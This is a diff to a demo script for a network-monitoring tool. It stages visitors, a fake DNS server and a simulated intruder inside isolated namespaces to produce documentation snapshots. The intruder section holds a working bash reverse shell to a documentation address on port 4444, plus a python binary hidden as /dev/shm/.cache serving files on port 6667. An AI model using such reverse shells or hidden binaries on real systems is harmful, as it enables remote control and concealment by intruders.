@@ -2,15 +2,16 @@
 # Makes demo.ndjson anew: a small server with visitors, recorded for a minute in namespaces of its own.
 #
 #   sudo demo.sh NETSTAT FILE      needs nginx, redis-server, sshd, python3, curl, iproute2, util-linux, tmux
+#   sudo demo.sh NETSTAT FOLDER    instead: a snapshot and a record of it for the pictures in docs, with an intruder
 #
 # Nothing leaves the machine: the visitors live behind a pair of virtual interfaces, at addresses for documentation (RFC 5737).
 set -euo pipefail
 if [[ ${1:-} != inside ]]; then
-    [[ $# -eq 2 ]] || { sed -n '2,7s/^# \{0,1\}//p' "$0"; exit 2; }
+    [[ $# -eq 2 ]] || { sed -n '2,8s/^# \{0,1\}//p' "$0"; exit 2; }
     # Paths of this machine are no business of the recording, so everything that is seen lies below /srv.
     NETSTAT=$(realpath "$1") FILE=$(realpath "$2") PATH=/usr/sbin:/usr/bin:/sbin:/bin
     export NETSTAT FILE PATH
-    rm -f "$FILE"
+    [[ -d $FILE ]] && rm -f "$FILE"/demo.json "$FILE"/demo.db || rm -f "$FILE"
     install -D "$0" /srv/demo/demo.sh
     cd /srv/demo
     exec unshare --net --pid --mount --uts --ipc --fork --mount-proc --kill-child bash ./demo.sh inside
@@ -53,6 +54,39 @@ mkdir -p /run/sshd
 /usr/sbin/sshd -D -p 22 -o PidFile=none 2>/dev/null &
 sleep 1
 
+if [[ -d $FILE ]]; then
+    # The recorder polls: within a process namespace tracepoints tell the numbers of the one outside.
+    HOME=$dir ./netstat record --store "$dir/demo.db" --events netlink --heartbeat 2s &
+    recorder=$!
+    # A name server, and a peer with a name.
+    python3 - <<'PYTHON' &
+import socket
+server = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
+server.bind(("127.0.0.1", 53))
+while True:
+    query, peer = server.recvfrom(512)
+    server.sendto(query[:2] + b"\x81\x80\0\1\0\1\0\0\0\0" + query[12:] + b"\xc0\x0c\0\1\0\1\0\0\0\x3c\0\4\xcb\0\x71\x50", peer)
+PYTHON
+    there python3 -m http.server 443 --bind 203.0.113.80 --directory "$dir/site" >/dev/null 2>&1 &
+    cat >"$dir/sync.py" <<'PYTHON'
+import socket, time
+name = b"".join(bytes([len(part)]) + part for part in (b"mirror", b"example", b"org"))
+while True:
+    asking = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
+    asking.settimeout(2)
+    asking.sendto(b"\0\7\1\0\0\1\0\0\0\0\0\0" + name + b"\0\0\1\0\1", ("127.0.0.1", 53))
+    asking.recv(512)
+    mirror = socket.create_connection(("203.0.113.80", 443))
+    mirror.sendall(b"GET /data HTTP/1.0\r\n\r\n")
+    while mirror.recv(20000):
+        time.sleep(0.02)
+    mirror.close()
+    time.sleep(3)
+PYTHON
+    sleep 1
+    python3 "$dir/sync.py" &
+fi
+
 # What they do.
 for from in 203.0.113.7 203.0.113.80 192.0.2.22 192.0.2.23 203.0.113.144; do
     there bash -c "while :; do curl -s --interface $from http://192.0.2.10/data -o /dev/null; done" &
@@ -60,6 +94,25 @@ done
 (while :; do redis-benchmark -q -n 1500 -c 4 -t set,get >/dev/null; sleep 1.5; done) &
 (while :; do curl -s --limit-rate 90k http://127.0.0.1:8080/data -o /dev/null; done) &
 (while :; do tar -c -C "$dir" site | gzip -9 >"$dir/backup.gz"; sync -f "$dir"; sleep 2; done) &
+if [[ -d $FILE ]]; then
+    sleep 45
+    # An intruder: a shell whose input and output are a connection, and a hidden program where no program belongs.
+    there python3 -c 'import socket, time
+listener = socket.create_server(("203.0.113.144", 4444))
+listener.accept()
+time.sleep(600)' &
+    sleep 1
+    setsid bash -c 'exec bash -i <>/dev/tcp/203.0.113.144/4444 >&0 2>&1' &
+    install "$(readlink -f "$(command -v python3)")" /dev/shm/.cache
+    PYTHONHOME=$(python3 -c 'import sys; print(sys.prefix)') /dev/shm/.cache -m http.server 6667 --directory "$dir/site" >/dev/null 2>&1 &
+    sleep 6
+    HOME=$dir ./netstat snapshot --output "$dir/demo.json"
+    kill -TERM "$recorder"
+    wait "$recorder" || true
+    cp "$dir/demo.json" "$dir/demo.db" "$FILE"
+    rm -f /dev/shm/.cache
+    exit
+fi
 sleep 6
 tmux -L demo -f /dev/null new-session -d -x 120 -y 40 "HOME=$dir ./netstat monitor --record recording"
 sleep 62
